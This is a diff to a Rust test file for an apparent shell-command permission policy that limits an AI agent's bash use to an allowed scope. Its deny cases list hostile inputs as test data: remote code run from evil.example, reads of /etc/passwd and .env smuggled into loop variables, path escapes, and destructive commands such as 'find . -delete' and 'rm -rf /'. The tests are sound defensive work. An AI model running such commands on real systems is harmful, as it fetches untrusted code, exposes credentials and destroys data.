@@ -24,6 +24,7 @@ fn what_agents_need_is_allowed() {
     for command in [
         "cd src && go test ./...",
         "cd src/auth && go test . && cd .. && cat a.go",
+        "cd docs; ls > a.txt",
         "( cd docs && ls ) && git status",
         "go test ./... 2>&1 | grep -E '^(ok|FAIL)' | head -n 20",
         "go test -run 'TestSync/sub case' ./...",
@@ -146,7 +147,7 @@ fn what_is_denied_names_its_rule() {
         ("commands.not-allowed", "gotest"),
         ("commands.not-allowed", "goat test"),
         ("commands.not-allowed", "env go test"),
-        ("commands.not-allowed", "find . -delete"),
+        ("commands.flag", "find . -delete"),
         ("commands.not-allowed", "git stash"),
         ("commands.not-allowed", "if true; then ls; else pythonx; fi"),
         ("commands.not-allowed", "while pythonx; do ls; done"),
@@ -242,7 +243,15 @@ fn what_is_denied_names_its_rule() {
         ("commands.argument", "go run evil.example/x@latest"),
         ("commands.argument", "git log $X"),
         ("commands.argument", "git log \"$(cat src/f1.txt)\""),
-        ("commands.argument", "cat *"),
+        ("commands.argument", "echo x > src/-n; cat *"),
+        ("commands.argument", "while ls; do wc *; ls > src/a.go; done"),
+        ("paths.outside", "cd src; go build -o target/x .; cd ..; ls; cd ../.."),
+        ("paths.outside", "cd src || cd ..; ls"),
+        ("paths.outside", "cd src || ls ..; ls"),
+        ("paths.outside", "if cd src; then ls; else cat ../b; fi"),
+        ("paths.outside", "! cd src && cat ../b"),
+        ("commands.argument", "for f in '5 /etc/passwd'; do head -n $f; done"),
+        ("commands.environment", "for f in a; do f=.env; done"),
         ("commands.argument", "[ -n $X ]"),
         ("commands.argument", "[ \"$(cat src/f1.txt)\" 'a[$(x)]' ]"),
         ("commands.argument", "cat ~/x"),
@@ -285,7 +294,6 @@ fn what_is_denied_names_its_rule() {
         ("paths.blocked", "ls > go.mod"),
         ("paths.blocked", "git add go.mod"),
         ("paths.not-allowed", "ls > Makefile"),
-        ("paths.not-allowed", "cd docs; ls > a.txt"),
         ("paths.protected", "ls | tee src/.gitattributes"),
         ("paths.links", "ls > src/twice.go"),
         ("paths.links", "cat src/pipe"),
@@ -316,31 +324,6 @@ fn redirections_follow_the_scope_and_scratch_is_outside_of_it() {
         ("cat < /tmp/out.txt", "commands.allowed"),
     ] {
         assert_eq!(bash(&policy, command).rule, expected, "{command}");
-    }
-}
-
-#[test]
-fn listed_commands_that_change_files_follow_the_scope() {
-    let yaml = "permissions: {bash_rules: {allowed_commands: [rm, mv, cp, mkdir, git rm, chmod], \
-                blocked_patterns: []}}";
-    let policy = Policy::new(locked(rules(yaml, Role::Worker), &["src/auth"])).unwrap();
-    for (command, expected) in [
-        ("rm src/auth/a.go", "commands.allowed"),
-        ("rm -rf src/a.go", "paths.scope"),
-        ("rm -rf /", "paths.outside"),
-        ("rm src/auth/*", "commands.argument"),
-        ("mv src/auth/a.go docs/a.go", "paths.scope"),
-        ("mv -t docs src/auth/a.go", "commands.flag"),
-        ("cp docs/a.md src/auth/a.md", "commands.allowed"),
-        ("cp /etc/passwd src/auth/a.md", "paths.outside"),
-        ("cp src/auth/a.go docs/a.go", "paths.scope"),
-        ("mkdir -p src/auth/new", "commands.allowed"),
-        ("git rm src/a.go", "paths.scope"),
-        ("git rm -q src/auth/a.go", "commands.allowed"),
-        ("ln -s /etc src/auth/x", "commands.not-allowed"),
-    ] {
-        let verdict = bash(&policy, command);
-        assert_eq!(verdict.rule, expected, "{command}: {verdict:?}");
     }
 }
 
